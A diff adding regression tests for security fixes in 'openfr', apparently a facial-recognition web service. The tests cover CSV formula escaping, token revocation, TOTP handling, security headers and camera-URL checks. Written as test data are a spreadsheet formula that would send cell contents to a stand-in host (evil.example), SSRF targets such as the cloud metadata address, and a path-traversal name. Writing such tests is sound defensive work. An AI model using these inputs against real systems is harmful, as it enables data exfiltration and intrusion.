@@ -1,0 +1,181 @@
+"""Regression tests for what an attack on openfr found (issue 14): each fails on the code before the fix."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+from fastapi.testclient import TestClient
+
+from actors import PASSWORD, make_app, sign_in, staff
+from openfr.errors import BadInputError
+from openfr.governance.accounts import TokenKind
+from openfr.governance.permissions import Role
+from openfr.live.camera_network import check_camera_url, display_source
+from openfr.services.galleries import EnrolFields
+from openfr.thresholds import check_threshold
+from openfr.web.app import create_app
+
+
+@pytest.fixture
+def site(tmp_path):
+    app = make_app(tmp_path / "home")
+    people = staff(app)
+    client = TestClient(create_app(app))
+    tokens = {
+        role: app.accounts.sign_in(role.value, PASSWORD, None, TokenKind.API).token
+        for role in (Role.ADMINISTRATOR, Role.AUDITOR, Role.OPERATOR)
+    }
+    yield app, people, client, tokens
+    app.close()
+
+
+def _bearer(token: str) -> dict:
+    return {"Authorization": f"Bearer {token}"}
+
+
+def test_csv_exports_never_carry_a_formula(site):
+    app, people, client, _tokens = site
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    client.post("/api/login", json={"username": evil, "password": "wrong password!"})  # no account needed
+    rows = app.audit.export(people[Role.AUDITOR], "csv")
+    assert any(r["actor"] == evil or evil in json.dumps(r) for r in rows)
+    from openfr.csvsafe import to_csv
+
+    text = to_csv(["actor"], [[evil]])
+    assert text.splitlines()[1].startswith("\"'=HYPERLINK")
+
+
+@pytest.mark.parametrize("value", [float("nan"), float("inf"), -float("inf"), 1.5, -2.0])
+def test_a_threshold_must_be_a_finite_score(value):
+    with pytest.raises(BadInputError):
+        check_threshold(value, 0.2)
+
+
+def test_the_api_refuses_a_nan_threshold_instead_of_storing_it(site):
+    _app, _people, client, tokens = site
+    body = (
+        '{"name": "nan-plan", "grounds": "g", "categories": ["missing-person"], "source_gallery": "none", '
+        '"location": "l", "location_rationale": "r", "cameras": {"c": "rtsp://cam.example/1"}, '
+        '"public_notice": {"signage": "s"}, "threshold": NaN}'
+    )
+    answer = client.post(
+        "/api/deployments",
+        content=body,
+        headers={**_bearer(tokens[Role.ADMINISTRATOR]), "Content-Type": "application/json"},
+    )
+    assert 400 <= answer.status_code < 500 and answer.status_code != 404
+
+
+def test_out_of_range_ids_and_limits_are_clear_errors(site, tmp_path):
+    app, people, client, tokens = site
+    auditor = _bearer(tokens[Role.AUDITOR])
+    huge = client.get("/api/alerts/99999999999999999999/images/crop", headers=auditor)
+    assert 400 <= huge.status_code < 500
+    for limit in (0, -1, 10**9):
+        assert client.get("/api/audit/events", params={"limit": limit}, headers=auditor).status_code == 400
+    fields = EnrolFields("cases/../demo-watchlist", "S-1", "test")
+    with pytest.raises(BadInputError, match="gallery name"):
+        app.galleries.enrol_upload(people[Role.ADMINISTRATOR], fields, filename="x.jpg", data=b"x")
+
+
+def test_an_api_token_can_be_revoked_and_a_password_reset_ends_every_session(site):
+    app, people, client, tokens = site
+    admin = people[Role.ADMINISTRATOR]
+    issued = app.accounts.issue_api_token(admin, "auditor", "integration", 30)
+    assert client.get("/api/audit/verify", headers=_bearer(issued)).status_code == 200
+    (row,) = [t for t in app.accounts.tokens(admin, "auditor") if t["name"] == "integration"]
+    with pytest.raises(BadInputError):
+        app.accounts.revoke_api_token(admin, "auditor", row["id"], "")  # a reason is required
+    app.accounts.revoke_api_token(admin, "auditor", row["id"], "leaked in a ticket")
+    assert client.get("/api/audit/verify", headers=_bearer(issued)).status_code == 401
+    # A reset by an administrator ends the sessions of whoever knew the old password.
+    session = tokens[Role.AUDITOR]
+    app.accounts.set_password(admin, "auditor", "A-new-long-password-7")
+    assert client.get("/api/audit/verify", headers=_bearer(session)).status_code == 401
+    # Disable, then enable: the tokens of before stay dead.
+    fresh = app.accounts.sign_in("operator", PASSWORD, None, TokenKind.API).token
+    app.accounts.set_active(admin, "operator", False)
+    app.accounts.set_active(admin, "operator", True)
+    assert client.get("/api/deployments", headers=_bearer(fresh)).status_code == 401
+
+
+def test_changing_ones_own_password_ends_the_other_sessions_but_this_one(site):
+    app, _people, client, _tokens = site
+    here = app.accounts.sign_in("operator", PASSWORD, None, TokenKind.API).token
+    there = app.accounts.sign_in("operator", PASSWORD, None, TokenKind.API).token
+    me = sign_in(app, "operator")
+    app.accounts.change_own_password(me, PASSWORD, "Another-long-password-8", keep=here)
+    assert client.get("/api/deployments", headers=_bearer(here)).status_code == 200
+    assert client.get("/api/deployments", headers=_bearer(there)).status_code == 401
+
+
+def test_a_second_factor_cannot_be_replaced_with_a_session_alone(site):
+    import pyotp
+
+    app, people, _client, _tokens = site
+    me = people[Role.OPERATOR]
+    with pytest.raises(BadInputError, match="base32"):  # a clear refusal, not a 500
+        app.accounts.confirm_totp(me, "not base32 at all!", "123456", password=PASSWORD)
+    secret, _ = app.accounts.start_totp(me)
+    app.accounts.confirm_totp(me, secret, pyotp.TOTP(secret).now(), password=PASSWORD)
+    other, _ = app.accounts.start_totp(me)
+    with pytest.raises(BadInputError, match="current authenticator"):
+        app.accounts.confirm_totp(me, other, pyotp.TOTP(other).now(), password=PASSWORD)
+    with pytest.raises(BadInputError, match="password"):
+        app.accounts.confirm_totp(me, other, pyotp.TOTP(other).now(), password="wrong")
+
+
+def test_statements_are_logged_without_their_values(site):
+    app, *_ = site
+    assert app.runtime.db.engine.hide_parameters  # a camera URL with a password never reaches the log
+
+
+def test_pages_tell_the_browser_not_to_frame_sniff_or_cache_them(site):
+    _app, _people, client, tokens = site
+    page = client.get("/login")
+    assert "frame-ancestors 'none'" in page.headers["content-security-policy"]
+    assert page.headers["x-frame-options"] == "DENY" and page.headers["x-content-type-options"] == "nosniff"
+    assert page.headers["cache-control"] == "no-store"
+    api = client.get("/api/deployments", headers=_bearer(tokens[Role.OPERATOR]))
+    assert api.headers["cache-control"] == "no-store"
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "http://169.254.169.254/latest/meta-data/",  # a cloud's metadata service
+        "http://127.0.0.1:8000/api/health",  # the server itself
+        "rtsp://[::1]/stream",
+        "http://0.0.0.0/",
+        "http://224.0.0.1/",
+    ],
+)
+def test_a_camera_cannot_point_the_server_at_its_own_or_the_clouds_services(url):
+    with pytest.raises(BadInputError, match="refused"):
+        check_camera_url(url, [], allow_loopback=False)
+
+
+def test_camera_networks_limit_where_cameras_may_be(site):
+    check_camera_url("rtsp://10.20.1.5/stream", ["10.20.0.0/16"], allow_loopback=False)
+    with pytest.raises(BadInputError, match="camera networks"):
+        check_camera_url("rtsp://192.168.1.5/stream", ["10.20.0.0/16"], allow_loopback=False)
+    assert display_source("rtsp://admin:secret@10.20.1.5:554/live?token=x") == "rtsp://10.20.1.5:554"
+
+
+def test_planning_refuses_a_loopback_camera_on_an_installation(tmp_path):
+    from openfr.live.deployments import DeploymentPlan
+    from openfr.settings import LiveSettings
+
+    app = make_app(tmp_path / "home", live=LiveSettings())  # as installed: no loopback cameras
+    people = staff(app)
+    plan = DeploymentPlan(
+        name="probe", grounds="g", categories=["missing-person"], source_gallery="custody", location="l",
+        location_rationale="r", cameras={"c": "http://127.0.0.1:8000/api/health"}, public_notice={"signage": "s"},
+    )  # fmt: skip
+    with pytest.raises(BadInputError, match="loopback"):
+        app.deployments.plan(people[Role.ADMINISTRATOR], plan)
+    missing = DeploymentPlan(**{**plan.__dict__, "cameras": {"c": "no-such-file.mp4"}})
+    with pytest.raises(BadInputError) as refused:
+        app.deployments.plan(people[Role.ADMINISTRATOR], missing)
+    assert str(app.runtime.home) not in str(refused.value)  # a refusal never reveals the server's paths
